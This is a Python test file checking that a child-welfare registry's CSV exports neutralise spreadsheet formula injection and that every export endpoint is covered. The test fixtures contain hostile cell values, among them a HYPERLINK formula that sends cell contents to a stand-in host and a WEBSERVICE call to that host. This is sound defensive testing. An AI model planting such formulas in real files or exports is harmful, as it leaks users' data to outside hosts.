"""CSV exports carry no formula into Excel or WPS: a value that starts one comes out with a leading apostrophe, and
the record itself keeps the value as it was typed.

The exports, all written by backbone/csvexport.py: the registry's /children/export and /volunteers/export hold what
coordinators typed (names, places, guardians, availability) and are tested here with hostile values; matching's
/views/pairings/export, /views/engagement/export, /views/volunteers/export and /views/summary/export hold ids,
vocabulary words, dates and counts only (no free text reaches matching), so the cell rule's unit test covers them.
"""

from __future__ import annotations

import csv
import io

import httpx

from backbone.settings import Settings
from services.matching.app import create_app as create_matching_app
from services.registry.app import create_app as create_registry_app
from tests.helpers import SECRET, auth

XINGAN = "450325"
COORDINATOR = auth("coordinator", [XINGAN])
CHILD = {
    "name": '=HYPERLINK("http://x.example/?"&A1,"打开")',
    "birth_date": "2016-05-20",
    "gender": "female",
    "category": "left_behind",
    "county_code": XINGAN,
    "township": "=1+1",
    "village": "+1",
    "risk_level": "medium",
    "guardianship": "grandparents",
    "guardian_name": "@SUM(1)",
    "guardian_phone": "13907730001",
}
VOLUNTEER = {
    "name": "-2+3",
    "phone": "13907731234",
    "kind": "caring_parent",
    "county_code": XINGAN,
    "township": "=1+1",
    "village": "@SUM(1)",
    "availability": '=WEBSERVICE("http://x.example/")',
}
FREE_TEXT_EXPORTS = {"/children/export", "/volunteers/export"}
COUNTS_ONLY_EXPORTS = {
    "/views/pairings/export",
    "/views/engagement/export",
    "/views/volunteers/export",
    "/views/summary/export",
}


def exported(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


async def test_a_child_whose_fields_are_formulas_is_exported_as_text_and_kept_as_typed(
    registry: httpx.AsyncClient,
) -> None:
    created = await registry.post("/children", json=CHILD, headers=COORDINATOR)
    assert created.status_code == 201, created.text
    [row] = exported(await registry.get("/children/export", params={"county_code": XINGAN}, headers=COORDINATOR))
    assert {field: row[field] for field in ("name", "township", "village", "guardian_name")} == {
        "name": "'" + CHILD["name"],
        "township": "'=1+1",
        "village": "'+1",
        "guardian_name": "'@SUM(1)",
    }
    assert (row["guardian_phone"], row["birth_date"], row["county_code"]) == ("13907730001", "2016-05-20", XINGAN)
    read = (await registry.get(f"/children/{created.json()['id']}", headers=COORDINATOR)).json()
    assert {field: read[field] for field in ("name", "township", "village", "guardian_name")} == {
        field: CHILD[field] for field in ("name", "township", "village", "guardian_name")
    }


async def test_a_volunteer_whose_fields_are_formulas_is_exported_as_text_and_kept_as_typed(
    registry: httpx.AsyncClient,
) -> None:
    created = await registry.post("/volunteers", json=VOLUNTEER, headers=COORDINATOR)
    assert created.status_code == 201, created.text
    [row] = exported(await registry.get("/volunteers/export", params={"county_code": XINGAN}, headers=COORDINATOR))
    assert {field: row[field] for field in ("name", "township", "village", "availability")} == {
        "name": "'-2+3",
        "township": "'=1+1",
        "village": "'@SUM(1)",
        "availability": "'" + VOLUNTEER["availability"],
    }
    assert (row["phone"], row["capacity"], row["service_hours"]) == ("13907731234", "1", "0.0")
    read = (await registry.get(f"/volunteers/{created.json()['id']}", headers=COORDINATOR)).json()
    assert read["name"] == "-2+3"
    assert read["availability"] == VOLUNTEER["availability"]


def test_every_csv_export_of_the_services_is_one_named_here() -> None:
    """A new export is either tested above with hostile values or shown to carry no free text."""
    settings = Settings(jwt_secret=SECRET, database_url="sqlite+aiosqlite:///:memory:", nats_url="nats://127.0.0.1:1")
    exports = {
        path
        for app in (create_registry_app(settings), create_matching_app(settings))
        for path, operations in app.openapi()["paths"].items()
        if "text/csv" in operations.get("get", {}).get("responses", {}).get("200", {}).get("content", {})
    }
    assert exports == FREE_TEXT_EXPORTS | COUNTS_ONLY_EXPORTS
